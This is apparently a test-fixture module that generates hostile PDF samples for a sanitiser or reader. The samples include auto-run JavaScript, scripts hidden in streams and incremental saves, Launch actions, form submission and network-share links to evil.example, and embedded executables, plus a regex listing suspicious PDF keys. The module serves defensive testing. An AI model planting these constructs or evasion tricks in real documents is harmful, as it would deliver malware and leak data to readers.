import { objectStream, onePagePdf, pageWith, pdfInParts, rawPdf, rawStream } from './sample-files.ts'

const script = '<</S/JavaScript/JS(app.alert(1))>>'
const program = rawStream('/Type/EmbeddedFile', Buffer.from('MZ this is a program'))
const fileSpec = '<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 5 0 R>>>>'

/** A page with an annotation away from its drawing. */
const annotation = (entries: string, ...more: (string | Buffer)[]) =>
  pageWith(`/Annots[<</Type/Annot/Rect[300 300 350 350]/Border[0 0 0]${entries}>>]`, ...more)
const link = (action: string, ...more: (string | Buffer)[]) => annotation(`/Subtype/Link/A${action}`, ...more)

/** A page whose drawing is in a form with these entries, which readers ignore. */
const formWith = (entries: string, ...more: (string | Buffer)[]) =>
  rawPdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>',
    rawStream('', Buffer.from('/X Do')),
    ...(more.length > 0 ? more : ['null']),
    rawStream(`/Type/XObject/Subtype/Form/BBox[0 0 595 842]${entries}`, Buffer.from('0 0 100 100 re f')),
  )

const field = (entries: string) =>
  rawPdf(
    `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Annots[5 0 R]>>',
    rawStream('', Buffer.from('0 0 100 100 re f')),
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[300 300 350 350]${entries}>>`,
  )

/** Objects that a table places in an unexpected place: inside the bytes of a stream. */
function insideAStream(): Buffer {
  const hidden = `q 7 0 obj\n${script}\nendobj\n`
  const { bytes, placeOf } = pdfInParts([
    [1, '<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R>>'],
    [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
    [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>'],
    [4, rawStream('', Buffer.from('0 0 100 100 re f'))],
    [8, rawStream('', Buffer.from(hidden))],
  ])
  const inside = bytes.indexOf('7 0 obj')
  const rows = Array.from({ length: 9 }, (_, number) => (number === 7 ? inside : placeOf(number)))
  const table = rows
    .map((at) => `${String(at ?? 0).padStart(10, '0')} 00000 ${at === undefined ? 'f' : 'n'} \n`)
    .join('')
  const end = `xref\n0 9\n${table}trailer\n<</Size 9/Root 1 0 R>>\nstartxref\n${bytes.length}\n%%EOF\n`
  return Buffer.concat([bytes, Buffer.from(end)])
}

/** A stream of objects without its type; a table in a stream refers to it. */
function inUntypedStream(): Buffer {
  const packed = objectStream({ 7: script })
  const untyped = Buffer.from(packed.toString('latin1').replace('/Type/ObjStm', ''), 'latin1')
  const { bytes, placeOf } = pdfInParts([
    [1, '<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R>>'],
    [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
    [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>'],
    [4, rawStream('', Buffer.from('0 0 100 100 re f'))],
    [6, untyped],
  ])
  const row = (kind: number, first: number, second: number) => {
    const cells = Buffer.alloc(7)
    cells.writeUInt8(kind)
    cells.writeUInt32BE(first, 1)
    cells.writeUInt16BE(second, 5)
    return cells
  }
  const rows = Array.from({ length: 9 }, (_, number) => {
    if (number === 7) return row(2, 6, 0)
    const at = number === 8 ? bytes.length : placeOf(number)
    return at === undefined ? row(0, 0, 65_535) : row(1, at, 0)
  })
  const table = rawStream('/Type/XRef/Size 9/W[1 4 2]/Root 1 0 R', Buffer.concat(rows))
  const end = Buffer.from(`\nendobj\nstartxref\n${bytes.length}\n%%EOF\n`)
  return Buffer.concat([bytes, Buffer.from('8 0 obj\n'), table, end])
}

/** A file saved twice: the second time, only changes were appended. */
function savedTwice(first: string, second: string): Buffer {
  const before = onePagePdf(first)
  const start = before.toString('latin1').lastIndexOf('xref\n0')
  const at = before.length
  const changed = `1 0 obj\n<</Type/Catalog/Pages 2 0 R${second}>>\nendobj\n`
  const end = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev ${start}>>\nstartxref\n${at + changed.length}\n%%EOF\n`
  return Buffer.concat([before, Buffer.from(changed + end)])
}

/**
 * A page drawn by nested forms that each draw the next ten times: ten times as long with every level, at the same size.
 */
export function drawnTenfold(levels: number, times = 1): Buffer {
  const form = (resources: string, commands: string) =>
    rawStream(`/Type/XObject/Subtype/Form/BBox[0 0 99 99]${resources}`, Buffer.from(commands))
  const next = (at: number) => `/Resources<</XObject<</F ${at} 0 R>>>>`
  const forms = Array.from({ length: levels }, (_, at) => form(next(at + 6), '/F Do '.repeat(10)))
  return rawPdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R${next(5)}>>`,
    rawStream('', Buffer.from('/F Do '.repeat(times))),
    ...forms,
    form('', '0 0 9 9 re f'),
  )
}

/** PDFs of one page with a black square in its lower left corner, with further content. */
export const hostilePdfs: Record<string, Buffer> = {
  'a script when it opens': onePagePdf(`/OpenAction${script}`),
  'a script in escaped names': onePagePdf('/OpenAction<</#53/#4aava#53cript/#4a#53(x)>>'),
  'a script by a name that stands alone': onePagePdf('/OpenAction<</S 5 0 R/JS(x)>>', '/JavaScript'),
  'a script after another action': onePagePdf(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${script}>>`),
  'a script as a second value of one key': onePagePdf(`/OpenAction${script}/OpenAction<</S/GoTo>>`),
  'a script when it is closed, saved or printed': onePagePdf(`/AA<</WC${script}/WS${script}/WP${script}>>`),
  'a script by name': onePagePdf(
    '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 5 0 R>>]>>>>',
    rawStream('', Buffer.from('app.alert(1)')),
  ),
  'a script of a page': pageWith(`/AA<</O${script}/C${script}>>`),
  'a script of an annotation': annotation(`/Subtype/Square/AA<</E${script}/U${script}>>`),
  'a script of a field': field(`/AA<</K${script}/C${script}>>/A${script}`),
  'a script of a bookmark': onePagePdf('/Outlines<</First 5 0 R/Last 5 0 R>>', `<</Title(a)/Parent 1 0 R/A${script}>>`),
  'a script inside the bytes of another stream': insideAStream(),
  'a script in a stream of objects that does not say it is one': inUntypedStream(),
  'a script in a compressed stream of objects': onePagePdf(
    '/OpenAction 8 0 R',
    objectStream({ 7: '<</N 1>>', 8: script }),
  ),
  'a script in an earlier version': savedTwice(`/OpenAction${script}`, ''),
  'a script in a later version': savedTwice('', `/OpenAction${script}`),
  'a script at the end of its pages': Buffer.concat([
    onePagePdf(),
    Buffer.from(`9 0 obj${script}endobj\nstartxref\n9\n%%EOF\n`),
  ]),
  'a form to be sent': link('<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>'),
  'data to be imported': link('<</S/ImportData/F(a.fdf)>>'),
  'a program to be started': link('<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>'),
  'a program to be started, with a comment between': onePagePdf('/OpenAction<</S%hidden\n/Launch/F(calc.exe)>>'),
  'a link to a network share': link('<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>'),
  'a link into an attachment': link('<</S/GoToE/T<</R/C/N(a.pdf)>>>>'),
  'a link to a script': link('<</S/URI/URI(javascript:alert\\(1\\))>>'),
  'a link to a page of the web': link('<</S/URI/URI(https://evil.example/)>>'),
  'a film': annotation('/Subtype/Movie/Movie<</F(a.avi)>>/A true'),
  'a sound': annotation('/Subtype/Sound/Sound 5 0 R', rawStream('/Type/Sound/R 8000', Buffer.from('aaaa'))),
  'a rendition': annotation(
    `/Subtype/Screen/A<</S/Rendition/OP 0/JS(x)/R<</S/MR/C<</S/MCD/D${fileSpec}>>>>>>`,
    program,
  ),
  'rich media': annotation(`/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a)${fileSpec}]>>>>`, program),
  'a model in three dimensions': annotation(
    '/Subtype/3D/3DD 5 0 R',
    rawStream('/Type/3D/Subtype/U3D/OnInstantiate 5 0 R', Buffer.from('x')),
  ),
  'an attached file': onePagePdf(`/Names<</EmbeddedFiles<</Names[(a.exe)${fileSpec}]>>>>`, program),
  'a file behind an annotation': annotation(`/Subtype/FileAttachment/FS${fileSpec}`, program),
  'a file associated with the document': onePagePdf(`/AF[${fileSpec}]`, program),
  'a file associated with a page': pageWith(`/AF[${fileSpec}]`, program),
  'a file associated with a drawing': formWith(`/AF[${fileSpec}]`, program),
  'a script among the notes of a program on a drawing': formWith(
    `/PieceInfo<</X<</LastModified(D:2026)/Private${script}>>>>`,
  ),
  'a file in the print instructions of a drawing': formWith(
    `/OPI<</2.0<</Type/OPI/Version 2.0/F${fileSpec}>>>>`,
    program,
  ),
  'remarks on a drawing': formWith(
    '/Metadata 5 0 R',
    rawStream('/Type/Metadata', Buffer.from('<x>/JavaScript SecretAuthor</x>')),
  ),
  'a stream kept in another file': pageWith(
    '/Thumb 5 0 R',
    rawStream('/F(\\\\\\\\evil.example\\\\a)/FFilter/FlateDecode', Buffer.from('x')),
  ),
  'remarks on its making': onePagePdf(
    '/Metadata 5 0 R/PieceInfo<<>>',
    rawStream('/Type/Metadata', Buffer.from('SecretAuthor')),
  ),
}

/** Keys and names that no file for showing pages needs, and words hidden in the files above. */
export const hostileWords =
  /\/(?:JS|JavaScript|OpenAction|AA|Launch|SubmitForm|ImportData|GoTo\w*|URI|Rendition|Movie|Sound|RichMedia\w*|3DD?|Annots?|AcroForm|Names|EmbeddedFiles?|EF|Filespec|AF|FFilter|PieceInfo|OPI|Metadata|Outlines|Thumb|Info)\b|app\.alert|evil\.example|SecretAuthor|this is a program/
